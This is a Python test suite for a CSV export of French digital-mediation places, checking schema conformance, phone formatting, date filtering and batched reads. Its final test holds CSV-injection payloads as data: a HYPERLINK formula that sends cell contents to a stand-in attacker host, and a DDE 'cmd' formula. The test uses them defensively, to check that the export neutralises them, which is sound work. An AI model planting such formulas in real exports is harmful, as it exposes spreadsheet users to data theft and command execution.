"""GET /exports/lieux.csv: every row valid against the national standard v1.0.2, streamed in keyset batches."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import event, func, select
from starlette.testclient import TestClient

from app.database import Database
from app.http_geo import csv_chunks
from batch.imports import import_communes, import_lieux
from batch.validation import load_schema, validate_csv
from models import Fees, ServiceKind, Structure
from resolvers.export import phone_number
from resolvers.ids import to_global_id
from tests import factories
from tests.conftest import SHARED_DATA
from tests.geo_factories import commune
from tests.test_import_communes import DECOUPAGE, LAPOSTE
from tests.test_import_lieux import REAL_FILES, V1_EXAMPLE

SCHEMA_FILE = SHARED_DATA / "schema" / "lieux-mediation-numerique-schema-v1.0.2.json"
SCHEMA = load_schema(SCHEMA_FILE)
FIELDS = SCHEMA["fields"]


def read_export(client: TestClient, **params: str) -> tuple[list[str], list[dict[str, str]]]:
    response = client.get("/exports/lieux.csv", params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    reader = csv.reader(io.StringIO(response.content.decode("utf-8"), newline=""))
    header, *rows = list(reader)
    return header, [dict(zip(header, r, strict=True)) for r in rows]


def assert_conforms(client: TestClient, folder: Path) -> int:
    """The whole export checked by frictionless against the standard's Table Schema; returns its rows."""
    response = client.get("/exports/lieux.csv")
    path = folder / "lieux.csv"
    path.write_bytes(response.content)
    result = validate_csv(path, SCHEMA, max_errors=20)
    assert result.valid, "\n".join(map(str, result.problems))
    return result.rows


def test_every_row_of_real_data_is_valid(client: TestClient, db: Database, tmp_path: Path) -> None:
    import_communes(db, LAPOSTE, DECOUPAGE)
    imported = import_lieux(db, [*REAL_FILES, V1_EXAMPLE])
    assert imported.ok
    with db.read() as session:
        places = session.scalar(select(func.count()).select_from(Structure)) or 0
    header, rows = read_export(client)
    assert header == [f["name"] for f in FIELDS]
    assert places > 8700 and len(rows) == places  # every imported place has what the standard requires
    assert assert_conforms(client, tmp_path) == len(rows)


def test_columns_are_derived_normalised_and_valid(client: TestClient, db: Database, tmp_path: Path) -> None:
    with db.write() as session:
        commune(session, "16015", "Angoulême", 45.6484, 0.1562, ("16000",))
        full = factories.structure(
            session,
            "Médiathèque l'Alpha",
            kinds=(ServiceKind.SAFE_DIGITAL_USE, ServiceKind.ADMINISTRATIVE_PROCEDURES),
            operator=True,
        )
        full.pivot = "21160015300017"
        full.phone = "05 45 94 56 00"
        full.email = "alpha@example.org; accueil@example.org"
        full.website = "https://alpha.example.org https://m.facebook.com/alpha"
        full.typology = "BIB|MUNI"
        full.opening_hours = "Tu-Sa 10:00-18:00"
        full.summary = "x" * 400
        full.source_updated_on = date(2024, 3, 5)
        full.offerings[0].fees = Fees.FREE_UNDER_CONDITIONS.value
        full.standard = {
            "itinerance": ["Fixe"],
            "publics_specifiquement_adresses": ["Seniors", "Pas dans le standard"],
            "dispositif_programmes_nationaux": ["Conseillers numériques", "France Services"],
            "modalites_accompagnement": ["Accompagnement individuel", "Dans un atelier collectif"],
            "prise_rdv": ["https://rdv.example.org"],
        }
        # Postal code and city missing: the communes table gives them.
        derived = factories.structure(session, "Sans adresse complète")
        derived.postal_code, derived.city, derived.pivot, derived.phone = "", "", "bad pivot!", "12"
        # No street at all: cannot conform, left out.
        factories.structure(session, "Sans rue").street = ""
        reunion = factories.structure(session, "Case numérique", commune_code="97411", postal_code="97400")
        reunion.phone = "0262 12 34 56"

    _, rows = read_export(client)
    by_name = {r["nom"]: r for r in rows}
    assert set(by_name) == {"Médiathèque l'Alpha", "Sans adresse complète", "Case numérique"}
    assert assert_conforms(client, tmp_path) == 3

    alpha = by_name["Médiathèque l'Alpha"]
    assert alpha["id"] == to_global_id("Structure", full.id)
    assert alpha["pivot"] == "21160015300017"
    assert alpha["services"] == "Aide aux démarches administratives|Utilisation sécurisée du numérique"
    assert alpha["telephone"] == "+33545945600"
    assert alpha["courriels"] == "alpha@example.org|accueil@example.org"
    assert alpha["site_web"] == "https://alpha.example.org|https://m.facebook.com/alpha"
    assert alpha["typologie"] == "BIB|MUNI"
    assert alpha["date_maj"] == "2024-03-05"
    assert alpha["frais_a_charge"] == "Gratuit|Gratuit sous condition"
    assert alpha["publics_specifiquement_adresses"] == "Seniors"
    assert alpha["dispositif_programmes_nationaux"] == "Conseillers numériques|France Services"
    assert alpha["modalites_accompagnement"] == "Accompagnement individuel|Dans un atelier collectif"
    assert alpha["itinerance"] == "Fixe" and alpha["prise_rdv"] == "https://rdv.example.org"
    assert len(alpha["presentation_resume"]) == 280
    assert (float(alpha["latitude"]), float(alpha["longitude"])) == (45.65, 0.16)

    derived_row = by_name["Sans adresse complète"]
    assert (derived_row["code_postal"], derived_row["commune"]) == ("16000", "Angoulême")
    assert derived_row["pivot"] == "00000000000000" and derived_row["telephone"] == ""
    assert derived_row["date_maj"] == datetime.now(UTC).date().isoformat()
    assert by_name["Case numérique"]["telephone"] == "+262262123456"


@pytest.mark.parametrize(
    ("raw", "department", "expected"),
    [
        ("01 80 05 98 80", "75", "+33180059880"),
        ("+33 1 80 05 98 80", "75", "+33180059880"),
        ("+33 (0)1 80 05 98 80", "75", "+33180059880"),
        ("0033180059880", "75", "+33180059880"),
        ("0590 12 34 56", "971", "+590590123456"),
        ("+262 0262 33 45 65", "974", "+262262334565"),
        ("0696 12 34 56", "972", "+596696123456"),
        ("40 12 34", "987", "+689401234"),
        ("3949", "75", ""),
        ("", "75", ""),
    ],
)
def test_phone_numbers_in_international_form(raw: str, department: str, expected: str) -> None:
    assert phone_number(raw, department) == expected


def test_updated_since_filters_and_reads_unescaped_offsets(client: TestClient, db: Database) -> None:
    base = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
    with db.write() as session:
        for i in range(4):
            factories.structure(session, f"Lieu {i}").updated_at = base + timedelta(days=i)
    names = [r["nom"] for r in read_export(client, updated_since="2024-05-02T12:00:00Z")[1]]
    assert names == ["Lieu 2", "Lieu 3"]
    # "+02:00" unescaped in a URL arrives as " 02:00": still understood.
    response = client.get("/exports/lieux.csv?updated_since=2024-05-02T14:00:00+02:00")
    assert [r[2] for r in list(csv.reader(io.StringIO(response.text)))[1:]] == ["Lieu 2", "Lieu 3"]
    assert [r["nom"] for r in read_export(client, updated_since="2024-05-03")[1]] == ["Lieu 2", "Lieu 3"]
    assert len(read_export(client)[1]) == 4


@pytest.mark.parametrize("value", ["hier", "2024-13-01", "2024-05-02T12:00:00"])
def test_bad_updated_since_is_a_clear_400(client: TestClient, db: Database, value: str) -> None:
    response = client.get("/exports/lieux.csv", params={"updated_since": value})
    assert response.status_code == 400
    error = response.json()["error"]
    assert error["field"] == "updated_since" and "ISO 8601" in error["message"]


def test_export_reads_in_keyset_batches(db: Database) -> None:
    with db.write() as session:
        for i in range(7):
            factories.structure(session, f"Lieu {i}")
    statements: list[str] = []

    def capture(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if "FROM structures" in statement and "ORDER BY structures.id" in statement:
            statements.append(statement)

    event.listen(db.engine, "before_cursor_execute", capture)
    try:
        chunks = csv_chunks(db, None, batch_size=3)
        assert statements == []  # lazy: nothing read before the response starts
        texts = list(chunks)
    finally:
        event.remove(db.engine, "before_cursor_execute", capture)
    # Header, then one chunk per batch of at most 3 rows: 3 + 3 + 1.
    assert [t.count("\r\n") for t in texts] == [1, 3, 3, 1]
    assert len(statements) == 3
    assert all("LIMIT" in s and "structures.id >" in s for s in statements)


def validate_command(*args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("AIGUILLAGE_")}
    command = [sys.executable, "-m", "app.cli", "export", "validate", *args]
    return subprocess.run(command, capture_output=True, text=True, env=env, check=False)


def test_export_validate_reports_the_first_errors(tmp_path: Path) -> None:
    example = SHARED_DATA / "schema" / "lieux-mediation-numerique-exemple-valide-v1.0.2.csv"
    good = validate_command(str(example), "--schema", str(SCHEMA_FILE))
    assert good.returncode == 0, good.stderr
    assert "conforme au standard v1.0.2 (1 ligne)" in good.stdout

    header, *rows = list(csv.reader(io.StringIO(example.read_text("utf-8"), newline="")))
    broken = [dict(zip(header, rows[0], strict=True)) for _ in range(3)]
    broken[0].update(pivot="pas un siret", code_postal="7500")
    broken[1].update(id="structure-2", date_maj="05/03/2024", latitude="43,5")
    broken[2].update(id="structure-3", nom="")
    path = tmp_path / "lieux.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(broken)
    bad = validate_command(str(path), "--schema", str(SCHEMA_FILE))
    assert bad.returncode == 1 and bad.stderr.count("\n") == 1, bad.stderr
    lines = bad.stdout.splitlines()
    assert "non conforme" in lines[0]
    assert lines[1:] == [
        "  ligne 2, colonne pivot : « pas un siret » ne convient pas ; attendu : du texte, "
        "au motif ^[a-zA-Z0-9]{9,14}$, ex. 43493312300029",
        "  ligne 2, colonne code_postal : « 7500 » ne convient pas ; attendu : du texte, au motif ^\\d{5}$, ex. 51100",
        "  ligne 3, colonne latitude : « 43,5 » ne convient pas ; attendu : un nombre (point décimal), ex. 43.52609",
        "  ligne 3, colonne date_maj : « 05/03/2024 » ne convient pas ; attendu : une date AAAA-MM-JJ, ex. 2024-04-02",
        "  ligne 4, colonne nom : valeur obligatoire, absente ici ; attendu : du texte, ex. Anonymal",
    ]
    first = validate_command(str(path), "--schema", str(SCHEMA_FILE), "--max-errors", "2")
    assert first.returncode == 1 and len(first.stdout.splitlines()) == 3


def test_the_command_line_does_not_load_frictionless_to_start() -> None:
    probe = "import sys, app.cli; print('frictionless' in sys.modules)"
    assert (
        subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True).stdout
        == "False\n"
    )


def test_cells_a_spreadsheet_would_run_are_neutralised(
    client: TestClient, db: Database, tmp_path: Any
) -> None:
    """OWASP's CSV injection rule: =, +, -, @ (tab or carriage return before them) start a formula."""
    from batch.imports import import_lieux

    payloads = {
        "1": {"nom": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "adresse": "1 rue des Tests"},
        "2": {"nom": "+Espace numérique", "adresse": "-1 rue des Tests"},
        "3": {"nom": "@SUM(1+1)", "adresse": "\t=cmd|' /C calc'!A0"},
        "4": {"nom": "\r-2+3", "adresse": "2 rue des Tests", "telephone": "+33545945600"},
    }
    rows = [
        {
            "id": key,
            "commune": "Angoulême",
            "code_postal": "16000",
            "services": "Prendre en main un ordinateur",
            "source": "test",
            "date_maj": "2023-01-01",
            "latitude": -21.1,
            "longitude": 55.5,
            **fields,
        }
        for key, fields in payloads.items()
    ]
    path = tmp_path / "formules.json"
    path.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    report = import_lieux(db, [path])
    (file_report,) = report.files
    assert file_report.taken == 4
    warned = sorted((w.id, w.reason.split(" « ")[0]) for w in file_report.warnings if "formule" in w.reason)
    assert warned == [
        ("1", "nom"),
        ("2", "adresse"),
        ("2", "nom"),
        ("3", "adresse"),
        ("3", "nom"),
        ("4", "nom"),
    ]

    _, exported = read_export(client)
    by_id = {row["nom"].lstrip("'"): row for row in exported}
    for row in exported:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) or column in ("telephone",), (
                column,
                value,
            )
            assert not value.startswith("-") or column in ("latitude", "longitude"), (column, value)
    assert by_id['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")']["nom"].startswith("'=HYPERLINK(")
    assert by_id["+Espace numérique"]["adresse"] == "'-1 rue des Tests"
    assert by_id["@SUM(1+1)"]["adresse"] == "'=cmd|' /C calc'!A0"
    # Plain numbers are data: the standard's phones and coordinates keep their sign.
    assert by_id["-2+3"]["nom"] == "'-2+3"
    assert by_id["-2+3"]["telephone"] == "+33545945600"
    assert by_id["-2+3"]["latitude"] == "-21.1"
